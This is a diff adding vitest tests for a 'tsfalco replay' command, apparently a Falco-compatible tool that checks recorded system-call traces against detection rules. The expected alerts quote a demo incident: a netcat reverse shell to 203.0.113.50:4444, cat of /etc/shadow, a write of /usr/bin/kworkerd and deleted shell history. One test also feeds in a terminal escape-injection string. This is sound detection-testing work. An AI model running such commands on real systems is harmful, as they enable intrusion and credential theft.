@@ -1,0 +1,93 @@
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { ROOT, STACK_LINE, tempDir, tsfalco } from '../helpers/cli.js';
+import { writeEvents } from '../helpers/replay.js';
+import { PPM_O } from '../../src/trace/flags.js';
+
+const tmp = tempDir();
+afterAll(tmp.cleanup);
+const UPSTREAM = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].flatMap((f) => ['-r', join(ROOT, '../shared/falco-rules', f)]);
+const DEMO = join(ROOT, 'fixtures/demo.arrow');
+
+describe('tsfalco replay', () => {
+  it('finds the demo incident with Falco\'s upstream rules, as Falco text alerts', () => {
+    const r = tsfalco(['replay', DEMO, ...UPSTREAM, '-o', 'rule_matching=all']);
+    expect(r.status).toBe(0);
+    const lines = r.stdout.trim().split('\n');
+    for (const line of lines) expect(line).toMatch(/^\d\d:\d\d:\d\d\.\d{9}: (Emergency|Alert|Critical|Error|Warning|Notice|Informational|Debug) /);
+    expect(r.stdout).toMatch(/Warning Sensitive file opened for reading by non-trusted program \| file=\/etc\/shadow .*process=cat .*parent=sudo/);
+    expect(r.stdout).toMatch(/Netcat\/Socat runs on host that allows remote code execution .*command=nc -e \/bin\/sh 203\.0\.113\.50 4444/);
+    expect(r.stdout).toMatch(/Error File below a known binary directory opened for writing \| file=\/usr\/bin\/kworkerd/);
+    expect(r.stdout).toMatch(/Shell history deleted or renamed .*name=\/home\/alice\/\.bash_history/);
+    expect(r.stderr).toMatch(/Events: 86 .* alerts: 5/);
+    expect(r.stderr).toMatch(/Read sensitive file untrusted\s+│ 1/);
+  });
+
+  it('writes Falco\'s JSON alert lines', () => {
+    const r = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '-o', 'time_format_iso_8601=true', '-t', 'filesystem', '--no-summary'], { env: { FALCO_HOSTNAME: 'ir-box' } });
+    expect(r.status).toBe(0);
+    const alerts = r.stdout.trim().split('\n').map((l) => JSON.parse(l));
+    const shadow = alerts.find((a) => a.rule === 'Read sensitive file untrusted');
+    expect(shadow).toMatchObject({ hostname: 'ir-box', priority: 'Warning', source: 'syscall', time: expect.stringMatching(/^2026-11-21T03:14:07\.\d{9}Z$/) });
+    expect(shadow.output).toMatch(/^2026-11-21T03:14:07\.\d{9}\+0000: Warning Sensitive file opened/);
+    expect(shadow.tags).toContain('filesystem');
+    expect(shadow.output_fields).toMatchObject({ 'fd.name': '/etc/shadow', 'proc.name': 'cat', 'proc.pname': 'sudo', 'user.name': 'root', 'user.uid': 0 });
+    expect(typeof shadow.output_fields['evt.time.iso8601']).toBe('number');
+    expect(r.stderr).toBe('');
+  });
+
+  it('applies rule_matching first (the default): one alert per event', () => {
+    const first = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '--no-summary']);
+    const all = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '--no-summary', '-o', 'rule_matching=all']);
+    const nFirst = first.stdout.trim().split('\n').length;
+    const nAll = all.stdout.trim().split('\n').length;
+    expect(nAll).toBe(5);
+    expect(nFirst).toBe(4); // nc's execve matches two rules; only the first fires
+  });
+
+  it('selects rules with -D, -T and -o priority', () => {
+    const noNetcat = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '--no-summary', '-o', 'rule_matching=all', '-D', 'Netcat']);
+    expect(noNetcat.stdout).not.toContain('Netcat');
+    const errorsOnly = tsfalco(['replay', DEMO, ...UPSTREAM, '--json', '--no-summary', '-o', 'priority=error']);
+    const rules = errorsOnly.stdout.trim().split('\n').map((l) => JSON.parse(l).rule);
+    expect(rules).toEqual(['Write below binary dir']);
+  });
+
+  it('takes Falco\'s -e and -o engine.replay.capture_file', () => {
+    const viaE = tsfalco(['replay', '-e', DEMO, ...UPSTREAM, '--no-summary', '-o', 'priority=error']);
+    const viaO = tsfalco(['replay', ...UPSTREAM, '--no-summary', '-o', 'priority=error', '-o', `engine.replay.capture_file=${DEMO}`]);
+    expect(viaE.stdout).toMatch(/File below a known binary directory/);
+    expect(viaO.stdout).toBe(viaE.stdout);
+  });
+
+  it('writes alerts to file_output', () => {
+    const out = join(tmp.dir, 'alerts.txt');
+    const r = tsfalco(['replay', DEMO, ...UPSTREAM, '--no-summary', '-o', 'stdout_output.enabled=false', '-o', 'file_output.enabled=true', '-o', `file_output.filename=${out}`]);
+    expect(r.stdout).toBe('');
+    expect(readFileSync(out, 'utf8')).toMatch(/Sensitive file opened for reading/);
+  });
+
+  it('escapes terminal control characters that come from the trace', () => {
+    const trace = writeEvents(tmp.dir, [
+      { type: 'openat', dir: '<', tid: 5, pid: 5, comm: 'x\u001b[2Jevil', path: '/etc/shadow', dirfd: -100n, flags: PPM_O.RDONLY, res: 3n, euid: 0 },
+    ]);
+    const r = tsfalco(['replay', trace, ...UPSTREAM, '--no-summary']);
+    expect(r.stdout).toContain('Sensitive file opened');
+    expect(r.stdout).not.toContain('\u001b');
+    expect(r.stdout).toContain('x\\x1b[2Jevil');
+  });
+
+  it('bad input: a missing trace or a broken rules file gives one line and exit 1', () => {
+    const missing = tsfalco(['replay', join(tmp.dir, 'nope.arrow'), ...UPSTREAM]);
+    expect(missing.status).toBe(1);
+    expect(missing.stderr).toMatch(/nope\.arrow: no such file/);
+    expect(missing.stderr).not.toMatch(STACK_LINE);
+    const bad = join(tmp.dir, 'bad.yaml');
+    writeFileSync(bad, '- rule: x\n  condition: evt.type=open and\n  output: y\n  desc: z\n  priority: WARNING\n');
+    const r = tsfalco(['replay', DEMO, '-r', bad]);
+    expect(r.status).toBe(1);
+    expect(r.stderr).toMatch(/bad\.yaml/);
+    expect(r.stderr).not.toMatch(STACK_LINE);
+  });
+});
